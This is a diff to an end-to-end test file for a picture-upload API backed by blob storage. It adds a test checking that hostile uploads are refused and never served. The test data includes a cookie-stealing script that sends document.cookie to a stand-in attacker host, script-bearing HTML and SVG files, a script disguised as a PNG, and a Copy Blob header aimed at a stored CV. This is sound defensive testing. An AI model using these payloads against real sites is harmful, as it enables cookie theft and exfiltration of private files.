@@ -263,7 +263,7 @@ test('a file that is no picture is refused by its content; without the editor ke
     await expectNoAxeViolations(page);
   }
 
-  // A real picture, but no key typed: the api gives no token, nothing is written.
+  // A real picture, but no key typed: the api refuses the write, nothing is written.
   await field.setInputFiles({ name: 'zonder-sleutel.png', mimeType: 'image/png', buffer: await pngOf(page, 64, 64) });
   await upload.getByRole('button', { name: 'Uploaden' }).click();
   await expect(upload).toBeHidden();
@@ -312,30 +312,48 @@ test('with more than 15 pictures, "Meer laden" shows 10 more at a time until all
   }
 });
 
-test('a token for the pictures cannot write to another container, and the site path writes nothing', async ({
+test('the api takes only pictures, whoever sends them: script, a page, an SVG with script and a copy of a cv are refused and never served', async ({
   request,
 }) => {
   const origin = pickerOrigin();
   const token = (await (await request.get(`${origin}/api/v1/anti-forgery`)).json()) as { Token: string };
-  const answer = await request.post(`${origin}/api/v1/picker/token`, {
-    headers: {
-      Origin: origin,
-      Authorization: `Bearer ${process.env.E2E_PICKER_EDITOR_KEY}`,
-      RequestVerificationToken: token.Token,
-    },
-  });
-  expect(answer.status()).toBe(200);
-  const { Containers } = (await answer.json()) as { Containers: { Name: string; Url: string; Sas: string }[] };
-  const pictures = Containers.find((container) => container.Name === 'pictures')!;
-  const sas = pictures.Sas;
-  // The pictures token against the applications container (cvs and letters): refused by storage.
-  const elsewhere = pictures.Url.replace(/\/pictures$/, '/applications/aanval.txt');
-  const put = await request.put(`${elsewhere}?${sas}`, { headers: { 'x-ms-blob-type': 'BlockBlob' }, data: 'x' });
-  expect(put.status()).toBe(403);
-  expect(await blobService().getContainerClient('applications').getBlobClient('aanval.txt').exists()).toBe(false);
-  // Through the site's /blobstorage/ path no write goes, not even with the token.
+  const editor = {
+    Origin: origin,
+    Authorization: `Bearer ${process.env.E2E_PICKER_EDITOR_KEY}`,
+    RequestVerificationToken: token.Token,
+  };
+  const attempts: [string, string, string, Record<string, string>?][] = [
+    ['aanval.js', 'text/javascript', 'document.location="https://kwaadwillend.example/?"+document.cookie;'],
+    ['aanval.png', 'image/png', 'alert(document.cookie);'],
+    ['pagina.html', 'text/html', '<!doctype html><script>alert(1)</script>'],
+    ['tekening.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    // A Copy Blob names its source in a header and has storage fetch it; the api reads only the body.
+    [
+      'kopie.png',
+      'image/png',
+      '',
+      {
+        'x-ms-copy-source': 'http://127.0.0.1:10000/alzapplications/applications/0000/cv.pdf',
+        'x-ms-requires-sync': 'true',
+      },
+    ],
+  ];
+  for (const [name, type, body, extra] of attempts) {
+    const answer = await request.put(`${origin}/api/v1/picker/pictures/pictures/${encodeURIComponent(name)}`, {
+      headers: { ...editor, 'Content-Type': type, ...extra },
+      data: Buffer.from(body),
+    });
+    expect([name, answer.status()]).toEqual([name, 400]);
+    expect(((await answer.json()) as { message: string }).message).toBe(
+      'Dit bestand is geen afbeelding. Kies een JPG-, PNG-, GIF- of WebP-bestand.',
+    );
+    expect(await blobNames('pictures', name)).toEqual([]);
+    expect((await request.get(`${origin}/blobstorage/pictures/${encodeURIComponent(name)}`)).status()).toBe(404);
+  }
+  // The old way in, a storage token, is gone; and through the site's /blobstorage/ path no write goes.
+  expect((await request.post(`${origin}/api/v1/picker/token`, { headers: editor })).status()).toBe(404);
   for (const method of ['PUT', 'DELETE']) {
-    const through = await request.fetch(`${origin}/blobstorage/pictures/aanval.png?${sas}`, {
+    const through = await request.fetch(`${origin}/blobstorage/pictures/aanval.png`, {
       method,
       headers: { 'x-ms-blob-type': 'BlockBlob' },
       data: 'x',
